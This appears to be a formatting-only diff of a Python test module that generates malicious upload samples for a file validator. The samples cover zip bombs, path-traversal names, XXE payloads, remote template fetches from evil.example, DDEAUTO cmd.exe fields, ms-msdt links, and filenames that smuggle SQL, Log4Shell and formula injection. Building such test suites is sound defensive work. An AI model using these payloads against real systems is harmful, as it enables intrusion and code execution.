@@ -17,9 +17,11 @@ SCRIPT = b"<html><script>alert(1)</script></html>"
 def pdf(catalog: bytes = b"", *more: bytes, trailer: bytes = b"") -> bytes:
     """A small whole PDF: one empty page, what its catalogue says besides, and more objects from the fourth on."""
     objects = (
-        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *more,
-    )  # fmt: skip
+        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
+        *more,
+    )
     made, places = b"%PDF-1.7\n", []
     for n, one in enumerate(objects, 1):
         places.append(len(made))
@@ -127,7 +129,9 @@ def _bombs() -> Iterator[Harm]:
         yield Harm("archive under another name", f"nested.{kind}", office(kind, {PART[kind] + ".bin": small}))
     deep = office("xlsx", {"xl/embeddings/a.xlsx": office("xlsx")})
     yield Harm("twice embedded", "deep.docx", office("docx", {"word/embeddings/b.xlsx": deep}))
-    yield Harm("bomb embedded", "deep.docx", office("docx", {"word/embeddings/b.xlsx": office("xlsx", {"xl/x.bin": flat})}))
+    yield Harm(
+        "bomb embedded", "deep.docx", office("docx", {"word/embeddings/b.xlsx": office("xlsx", {"xl/x.bin": flat})})
+    )
     yield Harm("many entries", "many.zip", packed({f"{n}.txt": b"x" for n in range(1_200)}))
     for count in (3, 5, 40):
         yield Harm("overlapping entries", f"overlap{count}.zip", _overlapping(count))
@@ -163,10 +167,27 @@ def _counting(count: int) -> bytes:
 
 def _entries() -> Iterator[Harm]:
     names = (
-        "../../etc/passwd", "/etc/passwd", "a/../../b", "..", "C:/windows/system32/x.txt", "..\\..\\x.txt", "\\\\server\\x",
-        "a\x01b.txt", "a\u202etxt.exe", "a\u200bb.txt", "x" * 600 + ".txt", "run.exe", "run.bat", "page.html", "page.svg",
-        "run.js", "link.lnk", "script.ps1", "a/./../../x", "a.hta",
-    )  # fmt: skip
+        "../../etc/passwd",
+        "/etc/passwd",
+        "a/../../b",
+        "..",
+        "C:/windows/system32/x.txt",
+        "..\\..\\x.txt",
+        "\\\\server\\x",
+        "a\x01b.txt",
+        "a\u202etxt.exe",
+        "a\u200bb.txt",
+        "x" * 600 + ".txt",
+        "run.exe",
+        "run.bat",
+        "page.html",
+        "page.svg",
+        "run.js",
+        "link.lnk",
+        "script.ps1",
+        "a/./../../x",
+        "a.hta",
+    )
     for name in names:
         yield Harm("entry that leads elsewhere or runs", "entries.zip", packed({name: b"x", "b.txt": b"y"}))
     for kind in ("zip", *OFFICE):
@@ -199,7 +220,9 @@ def _markup() -> Iterator[Harm]:
         yield Harm(f"XXE ({what})", f"{what}.{kind}", office(kind, {PART[kind] + ".xml": text.encode()}))
     for kind in OFFICE:
         yield Harm("XXE in UTF-16", f"wide.{kind}", office(kind, {PART[kind] + ".xml": DTD.encode("utf-16")}))
-        yield Harm("XXE after blanks", f"late.{kind}", office(kind, {PART[kind] + ".xml": b" " * 70_000 + external.encode()}))
+        yield Harm(
+            "XXE after blanks", f"late.{kind}", office(kind, {PART[kind] + ".xml": b" " * 70_000 + external.encode()})
+        )
         yield Harm("XXE in relations", f"rels.{kind}", office(kind, {PART[kind] + ".rels": DTD.encode()}))
     for what, text in texts.items():
         yield Harm(f"SVG ({what})", f"{what}.svg", text.encode())
@@ -207,11 +230,46 @@ def _markup() -> Iterator[Harm]:
 
 
 def _kinds() -> Iterator[Harm]:
-    for ending in ("svg", "html", "htm", "xhtml", "js", "exe", "php", "xml", "mht", "swf", "hta", "docm", "xlsm", "lnk", "iso", "7z", "rar", "gz", "tar", "eml", "rtf", "doc", "xls", "", "css", "wasm", "url", "desktop"):  # fmt: skip
+    for ending in (
+        "svg",
+        "html",
+        "htm",
+        "xhtml",
+        "js",
+        "exe",
+        "php",
+        "xml",
+        "mht",
+        "swf",
+        "hta",
+        "docm",
+        "xlsm",
+        "lnk",
+        "iso",
+        "7z",
+        "rar",
+        "gz",
+        "tar",
+        "eml",
+        "rtf",
+        "doc",
+        "xls",
+        "",
+        "css",
+        "wasm",
+        "url",
+        "desktop",
+    ):
         for content in (SVG, SCRIPT, b"MZ\x90\x00" + b"\0" * 60):
             yield Harm("kind that is not taken", f"file.{ending}", content)
     # One kind by name, another by content.
-    contents = {"html": SCRIPT, "svg": SVG, "exe": b"MZ\x90\x00\x03" + b"\0" * 99, "elf": b"\x7fELF\x02\x01" + b"\0" * 99, "gif": b"GIF89a" + b"\0" * 30}  # fmt: skip
+    contents = {
+        "html": SCRIPT,
+        "svg": SVG,
+        "exe": b"MZ\x90\x00\x03" + b"\0" * 99,
+        "elf": b"\x7fELF\x02\x01" + b"\0" * 99,
+        "gif": b"GIF89a" + b"\0" * 30,
+    }
     for ending, content in itertools.product(("pdf", "png", "jpg", "jpeg", "zip", *OFFICE), contents.values()):
         yield Harm("content that is not what the name says", f"picture.{ending}", content)
     for ending, start in (("pdf", PDF), ("png", png(1, 1)), ("jpg", jpeg(1, 1))):
@@ -252,29 +310,92 @@ def _active() -> Iterator[Harm]:
     """Documents that run something, or fetch it, when they are opened."""
     for kind in OFFICE:
         for what, content in PROGRAMS.items():
-            yield Harm(f"program in a document ({what})", f"program.{kind}", office(kind, {f"{PART[kind]}.bin": content}))
+            yield Harm(
+                f"program in a document ({what})", f"program.{kind}", office(kind, {f"{PART[kind]}.bin": content})
+            )
         yield Harm("embedded object", f"object.{kind}", office(kind, {f"{PART[kind]}.bin": OLE}))
         for name in ("run.exe", "run.js", "page.html", "link.lnk", "a.hta"):
-            yield Harm("program by its name in a document", f"named.{kind}", office(kind, {f"{PART[kind]}{name}": b"x"}))
-        yield Harm("test virus in a document", f"virus.{kind}", office(kind, {f"{PART[kind]}.bin": b"x" * 65_500 + EICAR}))
+            yield Harm(
+                "program by its name in a document", f"named.{kind}", office(kind, {f"{PART[kind]}{name}": b"x"})
+            )
+        yield Harm(
+            "test virus in a document", f"virus.{kind}", office(kind, {f"{PART[kind]}.bin": b"x" * 65_500 + EICAR})
+        )
     for kind in ("docx", "xlsx", "pptx"):
         part = PART[kind][:-1]
-        for type in ("attachedTemplate", "oleObject", "frame", "subDocument", "image", "externalLinkPath", "mailMergeSource", "slideMaster"):
+        for type in (
+            "attachedTemplate",
+            "oleObject",
+            "frame",
+            "subDocument",
+            "image",
+            "externalLinkPath",
+            "mailMergeSource",
+            "slideMaster",
+        ):
             for target in ("http://evil.example/t.dotm", "\\\\evil.example\\share\\t.dotm"):
-                yield Harm(f"fetched unasked ({type})", f"outside.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations(type, target)}))
-        yield Harm("fetched unasked, after blanks", f"late.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations("frame", "http://a.example").replace(b"><R", b">" + b" " * 70_000 + b"<R")}))
-        for target in ("file:///c:/x.exe", "\\\\evil.example\\x", "ms-msdt:/id", "javascript:alert(1)", "search-ms:query=x"):
-            yield Harm("link that runs", f"link.{kind}", office(kind, {f"{part}_rels/a.xml.rels": relations("hyperlink", target)}))
+                yield Harm(
+                    f"fetched unasked ({type})",
+                    f"outside.{kind}",
+                    office(kind, {f"{part}_rels/a.xml.rels": relations(type, target)}),
+                )
+        yield Harm(
+            "fetched unasked, after blanks",
+            f"late.{kind}",
+            office(
+                kind,
+                {
+                    f"{part}_rels/a.xml.rels": relations("frame", "http://a.example").replace(
+                        b"><R", b">" + b" " * 70_000 + b"<R"
+                    )
+                },
+            ),
+        )
+        for target in (
+            "file:///c:/x.exe",
+            "\\\\evil.example\\x",
+            "ms-msdt:/id",
+            "javascript:alert(1)",
+            "search-ms:query=x",
+        ):
+            yield Harm(
+                "link that runs",
+                f"link.{kind}",
+                office(kind, {f"{part}_rels/a.xml.rels": relations("hyperlink", target)}),
+            )
         yield Harm("control", f"control.{kind}", office(kind, {f"{part}activeX/activeX1.xml": b"<a/>"}))
         declared = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
-        yield Harm("declared macros", f"declared.{kind}", packed({"[Content_Types].xml": declared, {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]: b"<d/>"}))
+        yield Harm(
+            "declared macros",
+            f"declared.{kind}",
+            packed(
+                {
+                    "[Content_Types].xml": declared,
+                    {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[
+                        kind
+                    ]: b"<d/>",
+                }
+            ),
+        )
     yield Harm("macros of old", "sheets.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}))
-    yield Harm("link to a program", "dde.xlsx", office("xlsx", {"xl/externalLinks/e1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}))
-    yield Harm("field that runs", "dde.docx", office("docx", {"word/a.xml": b"<w><instrText>DDEAUTO c:/windows/cmd.exe</instrText></w>"}))
+    yield Harm(
+        "link to a program",
+        "dde.xlsx",
+        office("xlsx", {"xl/externalLinks/e1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
+    )
+    yield Harm(
+        "field that runs",
+        "dde.docx",
+        office("docx", {"word/a.xml": b"<w><instrText>DDEAUTO c:/windows/cmd.exe</instrText></w>"}),
+    )
     for kind in ("odt", "ods", "odp"):
         yield Harm("macros", f"basic.{kind}", office(kind, {"Basic/Standard/Module1.xml": b"<m/>"}))
         yield Harm("script", f"script.{kind}", office(kind, {"Scripts/python/a.py": b"x"}))
-        yield Harm("listener", f"listener.{kind}", office(kind, {"a.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}))
+        yield Harm(
+            "listener",
+            f"listener.{kind}",
+            office(kind, {"a.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}),
+        )
     for what, content in PROGRAMS.items():
         yield Harm(f"program in an archive ({what})", "archive.zip", packed({"report.dat": content}))
     yield Harm("old office file in an archive", "archive.zip", packed({"report.doc": OLE}))
@@ -302,7 +423,17 @@ def _papers() -> Iterator[Harm]:
     yield Harm("script that nothing leads to", "loose.pdf", pdf(b"", b"<</S/JavaScript/JS(x)>>"))
     yield Harm("file that nothing leads to", "loose.pdf", pdf(b"", _ATTACHED))
     yield Harm("script in packed objects", "packed.pdf", _in_stream(b"<</S/JavaScript/JS(x)>>"))
-    yield Harm("locked PDF", "locked.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")>>/ID[(a)(a)]"))
+    yield Harm(
+        "locked PDF",
+        "locked.pdf",
+        pdf(
+            trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O("
+            + b"o" * 32
+            + b")/U("
+            + b"u" * 32
+            + b")>>/ID[(a)(a)]"
+        ),
+    )
     for cut in (20, 60, 120, len(PDF) - 30):
         yield Harm("cut PDF", "cut.pdf", PDF[:cut])
     yield Harm("PDF without an end", "endless.pdf", PDF.replace(b"startxref", b"startnull"))
@@ -312,14 +443,21 @@ def _papers() -> Iterator[Harm]:
 
 def _in_stream(inside: bytes) -> bytes:
     """A PDF whose fourth object lies packed in the fifth, and whose table is an object too."""
-    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
+    objects = [
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
+    ]
     stream = zlib.compress(b"4 0 " + inside)
     made, places = b"%PDF-1.7\n", {}
     for n, one in enumerate(objects, 1):
         places[n] = len(made)
         made += b"%d 0 obj%s endobj\n" % (n, one)
     places[5] = len(made)
-    made += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(stream), stream)
+    made += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (
+        len(stream),
+        stream,
+    )
     places[6] = len(made)
     rows = [(0, 0, 65_535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0), (1, places[6], 0)]
     table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
@@ -330,11 +468,37 @@ def _in_stream(inside: bytes) -> bytes:
 def _names() -> Iterator[Harm]:
     """A harmless content under a name that is not: taken under a clean one, or refused."""
     names = (
-        "../../../etc/passwd.pdf", "..\\..\\x.pdf", "/etc/x.pdf", "C:\\x.pdf", "a\x00.pdf", "a.exe\x00.pdf", "gpj\u202efdp.pdf",
-        "a\u200b.pdf", "\ufeffa.pdf", "x" * 5_000 + ".pdf", "中" * 3_000 + ".pdf", ".pdf", " .pdf", "con.pdf", "nul.pdf", "a\r\nSet-Cookie: x=1.pdf",
-        'a"; filename="b.html.pdf', "a%00.pdf", "a;b.pdf", "<img src=x onerror=alert(1)>.pdf", "'; DROP TABLE documents;--.pdf", "a\tb.pdf",
-        "=cmd|' /C calc'!A0.pdf", "{{7*7}}.pdf", "${jndi:ldap://x}.pdf", "~/.ssh/x.pdf", "\u2028.pdf", "a\u0000b\u202e.pdf", "file:///etc/x.pdf", "-rf.pdf",
-    )  # fmt: skip
+        "../../../etc/passwd.pdf",
+        "..\\..\\x.pdf",
+        "/etc/x.pdf",
+        "C:\\x.pdf",
+        "a\x00.pdf",
+        "a.exe\x00.pdf",
+        "gpj\u202efdp.pdf",
+        "a\u200b.pdf",
+        "\ufeffa.pdf",
+        "x" * 5_000 + ".pdf",
+        "中" * 3_000 + ".pdf",
+        ".pdf",
+        " .pdf",
+        "con.pdf",
+        "nul.pdf",
+        "a\r\nSet-Cookie: x=1.pdf",
+        'a"; filename="b.html.pdf',
+        "a%00.pdf",
+        "a;b.pdf",
+        "<img src=x onerror=alert(1)>.pdf",
+        "'; DROP TABLE documents;--.pdf",
+        "a\tb.pdf",
+        "=cmd|' /C calc'!A0.pdf",
+        "{{7*7}}.pdf",
+        "${jndi:ldap://x}.pdf",
+        "~/.ssh/x.pdf",
+        "\u2028.pdf",
+        "a\u0000b\u202e.pdf",
+        "file:///etc/x.pdf",
+        "-rf.pdf",
+    )
     for name in names:
         yield Harm("odd name", name, PDF, refused=False)
     for ending in ("pdf.exe", "pdf.js", "pdf.html", "docx.scr", "pdf.svg", "pdf ", "pdf.", "pdf\u202e"):
